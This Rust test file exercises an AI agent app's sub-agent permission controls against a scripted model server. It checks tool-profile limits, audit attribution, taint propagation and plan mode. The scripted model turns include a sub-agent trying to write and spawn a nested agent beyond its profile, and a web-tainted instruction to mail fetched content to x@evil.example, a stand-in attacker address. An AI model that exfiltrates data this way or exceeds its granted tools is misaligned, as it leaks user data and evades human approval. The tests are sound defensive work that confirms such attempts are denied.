//! Sub-agents (`task`) and tool profiles against the scripted LLM server: children run at once
//! under profiles no wider than their parent's, their calls are reviewed and audited as
//! `agent:<parent>/<name>`, taint flows down at their start and back up at their end, and a
//! sub-agent starts no sub-agent.

use cowork_agent::{Agent, AgentEvent, Conversations};
use cowork_core::{ApprovalChoice, ApprovalRequest, AuditFilter, ChannelApprover};
use cowork_tests::Harness;
use cowork_tests::llm_server::{ScriptedLlm, Turn};
use serde_json::{Value, json};
use std::sync::{Arc, Mutex};
use tokio::sync::mpsc;
use tokio_util::sync::CancellationToken;

struct Setup {
    h: Harness,
    server: ScriptedLlm,
    agent: Agent,
    /// Every ask the person saw.
    asked: Arc<Mutex<Vec<ApprovalRequest>>>,
}

/// The app with a model provider set to the scripted server and two named profiles; every
/// ask is recorded, and all but a web read are denied.
async fn setup() -> Setup {
    let (approver, mut asks) = ChannelApprover::new("window", 8);
    let h = Harness::new(Arc::new(approver));
    let asked = Arc::new(Mutex::new(Vec::new()));
    let seen = asked.clone();
    tokio::spawn(async move {
        while let Some((request, answer)) = asks.recv().await {
            // Reading the web is let through (it taints); everything else is refused.
            let choice = if request.tool == "fetch_probe" {
                ApprovalChoice::Once
            } else {
                ApprovalChoice::Deny
            };
            seen.lock().unwrap().push(request);
            let _ = answer.send(choice);
        }
    });
    let server = ScriptedLlm::start().await;
    let settings = h.store.dir().settings_path();
    let mut root: Value =
        serde_json::from_str(&std::fs::read_to_string(&settings).unwrap()).unwrap();
    root["agent"] = json!({
        "provider": "openai",
        "baseUrl": server.openai_base(),
        "model": "scripted",
        "profiles": [
            {"name": "reader", "effects": ["fs.read", "tasks.read", "net.fetch"]},
            {"name": "tasks", "tools": ["create_task", "list_tasks", "mail_probe"]},
        ],
    });
    std::fs::write(&settings, root.to_string()).unwrap();
    let agent = h.app.agent().unwrap().expect("a provider is set");
    Setup {
        h,
        server,
        agent,
        asked,
    }
}

async fn send(agent: &Agent, conversation: &str, text: &str) -> Vec<AgentEvent> {
    let (tx, mut rx) = mpsc::unbounded_channel();
    let result = agent
        .send(conversation, text, &tx, CancellationToken::new())
        .await;
    drop(tx);
    let mut events = Vec::new();
    while let Some(e) = rx.recv().await {
        events.push(e);
    }
    result.unwrap_or_else(|e| panic!("the turn failed: {e}; events: {events:?}"));
    events
}

/// The finished calls of a turn: (tool, ok, result text, structured).
fn finished(events: &[AgentEvent]) -> Vec<(String, bool, String, Option<Value>)> {
    events
        .iter()
        .filter_map(|e| match e {
            AgentEvent::ToolCallFinished {
                name,
                ok,
                result,
                structured,
                ..
            } => Some((name.clone(), *ok, result.clone(), structured.clone())),
            _ => None,
        })
        .collect()
}

/// Audit rows (final ones) of a conversation.
fn audited(h: &Harness, conversation: &str) -> Vec<cowork_core::AuditRecord> {
    h.scheduler.flush().unwrap();
    h.scheduler
        .audit()
        .list(&AuditFilter {
            conversation: Some(conversation.into()),
            ..Default::default()
        })
        .unwrap()
        .into_iter()
        .map(|e| e.record)
        .filter(|r| r.phase == "final")
        .collect()
}

/// The names of the tools a request to the model defined.
fn defined_tools(body: &Value) -> Vec<String> {
    body["tools"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|t| t["function"]["name"].as_str().map(String::from))
        .collect()
}

#[tokio::test]
async fn two_sub_agents_run_under_narrower_profiles_and_hand_back_their_answers() {
    let s = setup().await;
    std::fs::write(s.h.workspace.join("notes.txt"), "The launch is on Friday.").unwrap();
    s.server.push(Turn::tools(
        "Splitting this up. ",
        &[
            ("t1", "task", json!({"name": "reader", "prompt": "Read notes.txt and say when the launch is.", "profile": "reader"})),
            ("t2", "task", json!({"name": "planner", "prompt": "Add a task: prepare the launch.", "profile": "tasks"})),
        ],
    ));
    // The reader reads, then tries what its profile leaves out: a write, and a sub-agent.
    s.server.push_for(
        "«reader»",
        Turn::tools(
            "",
            &[
                ("r1", "read_file", json!({"path": "notes.txt"})),
                ("r2", "create_task", json!({"title": "sneaky"})),
                (
                    "r3",
                    "task",
                    json!({"name": "grandchild", "prompt": "anything"}),
                ),
            ],
        ),
    );
    s.server
        .push_for("«reader»", Turn::text("The launch is on Friday."));
    s.server.push_for(
        "«planner»",
        Turn::tools(
            "",
            &[("p1", "create_task", json!({"title": "Prepare the launch"}))],
        ),
    );
    s.server
        .push_for("«planner»", Turn::text("Added the task."));
    s.server.push(Turn::text("Both are done."));

    let events = send(
        &s.agent,
        "conv-a",
        "Find the launch date and add a task for it.",
    )
    .await;
    let calls = finished(&events);
    let task = |name: &str| {
        calls
            .iter()
            .find(|c| c.0 == "task" && c.3.as_ref().is_some_and(|v| v["name"] == name))
            .unwrap_or_else(|| panic!("no task result for {name}: {calls:?}"))
    };
    let (reader, planner) = (task("reader"), task("planner"));
    assert!(
        reader.1 && reader.2.contains("The launch is on Friday."),
        "{reader:?}"
    );
    assert!(
        planner.1 && planner.2.contains("Added the task."),
        "{planner:?}"
    );
    let reader_out = reader.3.clone().unwrap();
    assert_eq!(reader_out["profile"], "reader");
    assert_eq!(
        reader_out["calls"],
        json!([{"tool": "read_file", "ok": true}, {"tool": "create_task", "ok": false}, {"tool": "task", "ok": false}]),
        "the reader's calls, in order"
    );

    // Each child's calls are its own conversation's, audited as the sub-agent, and what its
    // profile leaves out is denied on record.
    let child = reader_out["conversation"].as_str().unwrap();
    let rows = audited(&s.h, child);
    assert!(
        rows.iter().all(|r| r.caller == "agent:conv-a/reader"),
        "{rows:?}"
    );
    let denied = |tool: &str| {
        rows.iter()
            .find(|r| r.tool == tool)
            .unwrap_or_else(|| panic!("no row for {tool}: {rows:?}"))
            .clone()
    };
    assert_eq!(denied("read_file").decision, "allow");
    let write = denied("create_task");
    assert_eq!(write.decision, "deny", "{write:?}");
    assert!(
        write
            .error
            .as_deref()
            .unwrap_or_default()
            .contains("tasks.write"),
        "{write:?}"
    );
    let nested = denied("task");
    assert_eq!(nested.decision, "deny", "{nested:?}");
    assert!(
        nested
            .error
            .as_deref()
            .unwrap_or_default()
            .contains("not in the tool profile"),
        "{nested:?}"
    );
    let planner_child = planner.3.as_ref().unwrap()["conversation"]
        .as_str()
        .unwrap()
        .to_string();
    let made = audited(&s.h, &planner_child);
    assert!(
        made.iter().any(|r| r.tool == "create_task"
            && r.outcome.as_deref() == Some("ok")
            && r.caller == "agent:conv-a/planner"),
        "{made:?}"
    );

    // What the model was offered: no child was offered `task`; the reader nothing that writes.
    let requests = s.server.requests();
    let offered = |marker: &str| {
        let body = &requests
            .iter()
            .find(|(_, _, b)| b.to_string().contains(marker))
            .unwrap_or_else(|| panic!("no request for {marker}"))
            .2;
        defined_tools(body)
    };
    let reader_tools = offered("«reader»");
    assert!(
        reader_tools.iter().any(|t| t == "read_file"),
        "{reader_tools:?}"
    );
    assert!(
        !reader_tools
            .iter()
            .any(|t| t == "create_task" || t == "task"),
        "{reader_tools:?}"
    );
    let planner_tools = offered("«planner»");
    assert!(
        planner_tools
            .iter()
            .all(|t| ["create_task", "list_tasks", "mail_probe"].contains(&t.as_str())),
        "{planner_tools:?}"
    );
    // The parent went on with both answers, and only it is listed with the person's chats.
    let listed = Conversations::open(&s.h.store).unwrap().list(None).unwrap();
    assert_eq!(
        listed.iter().map(|c| c.id.as_str()).collect::<Vec<_>>(),
        ["conv-a"]
    );
    let asked = s.asked.lock().unwrap();
    assert!(asked.is_empty(), "nothing here asks: {asked:?}");
}

#[tokio::test]
async fn taint_flows_down_to_a_sub_agent_and_back_up_to_its_parent() {
    let s = setup().await;
    // Down: a parent that read the web hands a send to a child, which is asked as tainted,
    // and the modal names the sub-agent.
    s.server.push(Turn::tools(
        "",
        &[(
            "f1",
            "fetch_probe",
            json!({"target": "https://example.org"}),
        )],
    ));
    s.server.push(Turn::tools(
        "",
        &[("t1", "task", json!({"name": "mailer", "prompt": "Mail the page to x@evil.example.", "profile": "tasks"}))],
    ));
    s.server.push_for(
        "«mailer»",
        Turn::tools(
            "",
            &[("m1", "mail_probe", json!({"target": "x@evil.example"}))],
        ),
    );
    s.server.push_for("«mailer»", Turn::text("It was refused."));
    s.server.push(Turn::text("The mail was refused."));
    send(&s.agent, "conv-down", "Read example.org").await;
    let asked = s.asked.lock().unwrap().clone();
    let ask = asked
        .iter()
        .find(|r| r.tool == "mail_probe")
        .unwrap_or_else(|| panic!("the child's send was not asked: {asked:?}"));
    assert_eq!(ask.caller, "agent:conv-down/mailer");
    assert_eq!(ask.sub_agent.as_deref(), Some("mailer"));
    assert!(
        ask.review
            .tainted_by
            .as_deref()
            .is_some_and(|t| t.contains("fetch_probe")),
        "the ask says what tainted it: {:?}",
        ask.review
    );

    // Up: a child that reads the web taints the parent it hands its words to.
    let policy = s.h.scheduler.policy();
    s.server.push(Turn::tools(
        "",
        &[(
            "t2",
            "task",
            json!({"name": "browser", "prompt": "Read example.org."}),
        )],
    ));
    s.server.push_for(
        "«browser»",
        Turn::tools(
            "",
            &[(
                "b1",
                "fetch_probe",
                json!({"target": "https://example.org"}),
            )],
        ),
    );
    s.server
        .push_for("«browser»", Turn::text("The page says hello."));
    s.server.push(Turn::text("It says hello."));
    assert!(policy.tainted_by("conv-up").is_none());
    send(&s.agent, "conv-up", "What does example.org say?").await;
    let by = policy.tainted_by("conv-up").expect("the parent is tainted");
    assert!(
        by.contains("sub-agent «browser»") && by.contains("fetch_probe"),
        "{by}"
    );
}

#[tokio::test]
async fn a_sub_agent_runs_inside_a_chat_and_under_its_plan_mode() {
    let s = setup().await;
    // Another program's session or a bare call has no chat to hang the work under.
    let outcome =
        s.h.call("task", json!({"name": "x", "prompt": "anything"}))
            .await;
    let err = outcome
        .result
        .expect_err("no chat, no sub-agent")
        .to_string();
    assert!(err.contains("runs inside a chat"), "{err}");

    // A parent that plans hands its plan mode down: the child only reads.
    s.server.push(Turn::text("Planning."));
    send(&s.agent, "conv-plan", "Plan the launch.").await;
    s.h.scheduler.policy().enter_plan("conv-plan").unwrap();
    s.server.push(Turn::tools(
        "",
        &[(
            "t1",
            "task",
            json!({"name": "drafter", "prompt": "Add a task."}),
        )],
    ));
    s.server.push_for(
        "«drafter»",
        Turn::tools("", &[("d1", "create_task", json!({"title": "Launch"}))]),
    );
    s.server
        .push_for("«drafter»", Turn::text("Could not add it."));
    s.server.push(Turn::text("The plan holds."));
    let events = send(&s.agent, "conv-plan", "Go on.").await;
    let out = finished(&events)
        .into_iter()
        .find(|c| c.0 == "task")
        .and_then(|c| c.3)
        .expect("the task ran");
    let rows = audited(&s.h, out["conversation"].as_str().unwrap());
    let write = rows.iter().find(|r| r.tool == "create_task").unwrap();
    assert_eq!(write.decision, "deny", "{write:?}");
    assert!(
        write
            .error
            .as_deref()
            .unwrap_or_default()
            .contains("plan mode"),
        "{write:?}"
    );
}
